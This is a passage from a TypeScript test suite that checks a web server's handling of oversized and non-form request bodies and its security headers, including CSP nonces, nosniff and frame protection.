      const label = `${request.init?.method ?? "GET"} ${request.path.slice(0, 80)}`;
      const headers = { "X-Forwarded-For": nextIp(), ...(request.init?.headers as Record<string, string>) };
      const answer = await rawRequest(`${server.url}${request.path}`, { method: request.init?.method, headers, body: request.init?.body as string | undefined });
      if ("error" in answer) {
        // Over a cap the server may answer before reading the body and close: no answer is no leak.
        expect(String(request.init?.body ?? "").length, `${label}: ${answer.error}`).toBeGreaterThan(64 * 1024);
        continue;
      }
      expect(answer.body.match(leak)?.[0], `${label} → ${answer.status}\n${answer.body.slice(0, 500)}`).toBeUndefined();
    }
  });

  it("still answers the next request on a keep-alive connection after refusing an oversized body (413)", async () => {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const headers = { "Content-Type": "application/json", Origin: server.url, "X-Forwarded-For": nextIp() };
    try {
      const tooLarge = await rawRequest(`${server.url}/api/send-contact-email`, { method: "POST", headers, body: JSON.stringify({ pad: "x".repeat(2 * 1024 * 1024) }), agent });
      expect(tooLarge).toMatchObject({ status: 413 });
      const next = await rawRequest(`${server.url}/api/send-contact-email`, { method: "POST", headers, body: "{}", agent });
      expect(next).toMatchObject({ status: 400 });
    } finally {
      agent.destroy();
    }
  });

  it("refuses a 100 MB form post to a page action (413) without holding it in memory", async () => {
    const rss = () => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${server.child.pid}/status`, "utf8"))?.[1] ?? 0) / 1024;
    const before = rss();
    const started = Date.now();
    // As a browser does: the body streams in 1 MB pieces and the answer is read as soon as it comes,
    // even when the server stops reading before the last piece is written.
    const status = await new Promise<number>((resolve) => {
      const url = new URL(`${server.url}/admin`);
      const request = http.request(url, {
        method: "POST",
        headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": 100 * 1024 * 1024, Origin: server.url, "X-Forwarded-For": nextIp() },
      });
      request.on("response", (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
        request.destroy();
      });
      request.on("error", () => resolve(0));
      const piece = Buffer.alloc(1024 * 1024, 0x61);
      let sent = 0;
      const writeMore = () => {
        while (sent < 100 && !request.destroyed) {
          sent += 1;
          const chunk = sent === 1 ? Buffer.concat([Buffer.from("intent=sign-in&email="), piece.subarray(21)]) : piece;
          if (!request.write(chunk)) return void request.once("drain", writeMore);
        }
        if (!request.destroyed) request.end();
      };
      writeMore();
    });
    const grownMb = rss() - before;
    expect({ status, grownMb: Math.round(grownMb), seconds: Math.round((Date.now() - started) / 1000) }).toMatchObject({ status: 413 });
    expect(grownMb).toBeLessThan(50);
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  });
});

describe("security headers", () => {
  it("sends a private page's CSP with a fresh nonce per response, nosniff, frame protection and no X-Powered-By", async () => {
    const [first, second] = await Promise.all([fetch(`${server.url}/area-personale`), fetch(`${server.url}/area-personale`)]);
    const third = await fetch(`${server.url}/area-personale`);
    expect(third.headers.get("cache-control")).toContain("no-store");
    const nonces = [first, second, third].map((response) => /'nonce-([^']+)'/.exec(response.headers.get("content-security-policy") ?? "")?.[1]);
    expect(nonces.every(Boolean)).toBe(true);
    expect(new Set(nonces).size).toBe(3);
    const html = await third.text();
    expect(html).toContain(`nonce="${nonces[2]}"`);
    expect(html).not.toContain(`nonce="${nonces[0]}"`);
    for (const response of [first, third]) {
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("x-frame-options")).toBe("DENY");
      expect(response.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
      expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
      expect(response.headers.get("x-powered-by")).toBeNull();
    }
  });

  it("sends the build's scripts with nosniff and none of a document's headers; a missing one is a plain 404", async () => {
    const html = await (await fetch(`${server.url}/questionario-interno`)).text();
    const script = /<link rel="modulepreload" fetchpriority="low" href="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeDefined();
    const response = await fetch(`${server.url}${script}`, { headers: { "accept-encoding": "br" } });
    expect(response.status).toBe(200);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    for (const header of ["content-security-policy", "x-frame-options", "permissions-policy", "referrer-policy", "cross-origin-opener-policy"]) {
      expect(response.headers.get(header), header).toBeNull();
    }
    const missing = await fetch(`${server.url}/assets/non-esiste-123.js`);
    expect(missing.status).toBe(404);
    expect(missing.headers.get("content-type")).toContain("text/plain");
    expect(await missing.text()).toBe("Risorsa non trovata.");
  });

  it("refuses a page's action a body that is not a form (JSON, none) with 415 and says why, instead of failing with a 500", async () => {
    for (const pathname of ["/gruppi-matching", "/accedi", "/qualcosa-che-non-esiste", "/gruppi-matching.data"]) {
      const bodies: { headers: Record<string, string>; body?: string }[] = [{ headers: { "content-type": "application/json" }, body: "{}" }, { headers: {} }];
      for (const init of bodies) {
        const response = await fetch(`${server.url}${pathname}`, { method: "POST", ...init });
        const text = await response.text();
        expect(response.status, `${pathname} ${JSON.stringify(init.headers)}`).toBe(415);
        expect(text).toContain("Richiesta non valida: i dati vanno inviati con il modulo della pagina.");
      }
    }
  });

  it("sends a cached public page a CSP of script hashes, with no nonce to reuse between visitors", async () => {
    const response = await fetch(`${server.url}/prezzi`);
    const csp = response.headers.get("content-security-policy") ?? "";
    expect(csp).toMatch(/script-src[^;]*'sha256-[A-Za-z0-9+/=]+'/);
    expect(csp).not.toContain("'nonce-");
    expect(await response.text()).not.toContain("nonce=");
    expect(csp).toContain("frame-ancestors 'none'");
  });
});
